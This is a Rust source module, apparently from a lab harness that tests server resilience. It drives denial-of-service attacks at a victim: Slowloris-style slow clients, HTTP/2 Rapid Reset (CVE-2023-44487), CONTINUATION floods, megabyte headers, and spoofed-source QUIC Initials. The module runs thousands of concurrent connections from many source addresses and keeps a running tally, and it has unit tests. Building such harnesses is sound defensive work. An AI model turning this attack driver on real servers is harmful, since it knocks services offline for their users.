//! The attacker's process: one attack until it is ended, and a line about it every moment.

use std::{
    cell::Cell,
    fs,
    io::{self, Write},
    net::{Ipv4Addr, SocketAddr},
    path::Path,
    time::Duration,
};

use clap::ValueEnum;
use serde::{Deserialize, Serialize};
use tokio::{
    net::{TcpSocket, TcpStream},
    time::{sleep, timeout},
};

use super::{
    http2, initials, overlong,
    scene::{POP_TO_ATTACKER, sources},
    slow,
    victim::Ports,
};
use crate::error::{Error, Result};

/// One way to do harm.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Attack {
    /// Thousands of connections whose clients say, or take, an octet now and then (Slowloris, R.U.D.Y., Slow Read).
    Slow,
    /// Requests over HTTP/2 that are cancelled at once (Rapid Reset, CVE-2023-44487).
    RapidReset,
    /// Heads over HTTP/2 that never end (CVE-2024-27316 and its kin).
    Continuation,
    /// Heads of a megabyte, over HTTP/1.1 and HTTP/2.
    LargeHeads,
    /// First packets of QUIC from forged addresses.
    Initials,
}

impl Attack {
    /// All there are.
    pub const ALL: [Self; 5] =
        [Self::Slow, Self::RapidReset, Self::Continuation, Self::LargeHeads, Self::Initials];

    /// What its steps are.
    pub fn unit(self) -> &'static str {
        match self {
            Self::Slow => "octets",
            Self::RapidReset => "requests cancelled",
            Self::Continuation => "frames",
            Self::LargeHeads => "heads",
            Self::Initials => "packets",
        }
    }

    /// Whether what is asked of clients from now on is asked under it. Slow ones are all there, and as slow as they will be: what
    /// the app sends them until the buffers on the way are full is a load like any other.
    pub(super) fn is_under_way(self, tally: Tally, slow: u64) -> bool {
        match self {
            Self::Slow => tally.held >= slow && tally.steps >= 3 * slow,
            Self::RapidReset | Self::Continuation | Self::LargeHeads | Self::Initials => tally.steps > 0,
        }
    }

    pub(super) fn name(self) -> String {
        self.to_possible_value().map(|value| value.get_name().to_owned()).unwrap_or_default()
    }
}

/// What to do.
#[derive(Debug, Clone, clap::Args)]
pub struct Strike {
    /// How.
    #[arg(long)]
    attack: Attack,
    /// Connections of slow clients.
    #[arg(long, default_value_t = 4000)]
    connections: u32,
    #[command(flatten)]
    ports: Ports,
}

/// Connections of a flood at once.
const FLOODS: u32 = 16;
/// How often the tally is told.
const TOLD: Duration = Duration::from_millis(100);
const CONNECT_LIMIT: Duration = Duration::from_secs(5);
/// Before the next attempt after one that failed.
const PAUSE: Duration = Duration::from_millis(100);

/// How an attack goes.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub(super) struct Tally {
    /// What it is counted by ([`Attack::unit`]).
    pub(super) steps: u64,
    /// Connections that are held now.
    pub(super) held: u64,
}

impl Tally {
    /// What the log of an attacker says at last.
    pub(super) fn last_in(log: &Path) -> Self {
        let text = fs::read_to_string(log).unwrap_or_default();
        // The last line may not be whole yet.
        text.lines().rev().find_map(|line| serde_json::from_str(line).ok()).unwrap_or_default()
    }
}

/// What the tasks of an attack share.
#[derive(Debug, Default)]
pub(super) struct Count(Cell<Tally>);

impl Count {
    pub(super) fn step(&self, steps: u64) {
        self.change(|tally| tally.steps += steps);
    }

    /// One more connection, as long as what is returned lives.
    pub(super) fn hold(&self) -> Held<'_> {
        self.change(|tally| tally.held += 1);
        Held(self)
    }

    fn change(&self, change: impl FnOnce(&mut Tally)) {
        let mut tally = self.0.get();
        change(&mut tally);
        self.0.set(tally);
    }
}

pub(super) struct Held<'a>(&'a Count);

impl Drop for Held<'_> {
    fn drop(&mut self) {
        self.0.change(|tally| tally.held -= 1);
    }
}

/// Attacks until the process is ended.
///
/// # Errors
/// When there is nothing to attack with.
pub async fn strike(strike: Strike) -> Result<()> {
    let count = Count::default();
    let Strike { attack, connections, ports } = strike;
    let http2 = ports.http2;
    let attack = async {
        match attack {
            Attack::Slow => each(connections, async |number| slow::attack(number, ports, &count).await).await,
            Attack::RapidReset => {
                each(FLOODS, async |number| http2::rapid_reset(number, http2, &count).await).await;
            }
            Attack::Continuation => {
                each(FLOODS, async |number| http2::continuation(number, http2, &count).await).await;
            }
            Attack::LargeHeads => {
                each(FLOODS, async |number| overlong::attack(number, ports, &count).await).await;
            }
            Attack::Initials => return initials::attack(ports.secure, &count).await,
        }
        Ok(())
    };
    let telling = async {
        loop {
            let line = serde_json::to_string(&count.0.get()).map_err(io::Error::from);
            line.and_then(|line| writeln!(io::stdout(), "{line}")).map_err(Error::io("telling the tally"))?;
            sleep(TOLD).await;
        }
    };
    tokio::select! {
        ended = attack => ended,
        ended = telling => ended,
    }
}

/// So many at once, each again and again: that the victim defends itself is no error of the attack.
async fn each(count: u32, attack: impl AsyncFn(u32) -> io::Result<()>) {
    let attackers = (0..count).map(|number| {
        let attack = &attack;
        async move {
            // Not all in the same moment: the queue of new connections is not what is attacked.
            sleep(Duration::from_millis(u64::from(number) / 2)).await;
            loop {
                if attack(number).await.is_err() {
                    sleep(PAUSE).await;
                }
            }
        }
    });
    futures_util::future::join_all(attackers).await;
}

/// A connection to this port, from one of many addresses.
pub(super) async fn connect(number: u32, port: u16) -> io::Result<TcpStream> {
    let from = sources().nth(number as usize % sources().count()).unwrap_or(Ipv4Addr::UNSPECIFIED);
    let socket = TcpSocket::new_v4()?;
    socket.set_reuseaddr(true)?;
    socket.bind(SocketAddr::from((from, 0)))?;
    timeout(CONNECT_LIMIT, socket.connect((POP_TO_ATTACKER, port).into())).await?
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_last_whole_line_of_the_log_counts() {
        let log = std::env::temp_dir().join(format!("proxima-tally-{}", std::process::id()));
        fs::write(&log, "{\"steps\":1,\"held\":2}\nnoise\n{\"steps\":3,\"held\":4}\n{\"ste").unwrap();
        assert_eq!(Tally::last_in(&log), Tally { steps: 3, held: 4 });
        fs::remove_file(&log).unwrap();
        assert_eq!(Tally::last_in(&log), Tally::default());
    }

    #[test]
    fn slow_clients_are_under_way_when_all_have_been_slow_for_a_while() {
        let tally = |steps, held| Tally { steps, held };
        for (tally, is_under_way) in
            [(tally(100_000, 3999), false), (tally(11_999, 4000), false), (tally(12_000, 4000), true)]
        {
            assert_eq!(Attack::Slow.is_under_way(tally, 4000), is_under_way, "{tally:?}");
        }
        assert!(!Attack::Initials.is_under_way(tally(0, 0), 4000));
        assert!(Attack::Initials.is_under_way(tally(1, 0), 4000));
    }

    #[test]
    fn a_connection_counts_as_long_as_it_is_held() {
        let count = Count::default();
        let (one, two) = (count.hold(), count.hold());
        drop(one);
        assert_eq!(count.0.get().held, 1);
        drop(two);
        assert_eq!(count.0.get().held, 0);
    }
}
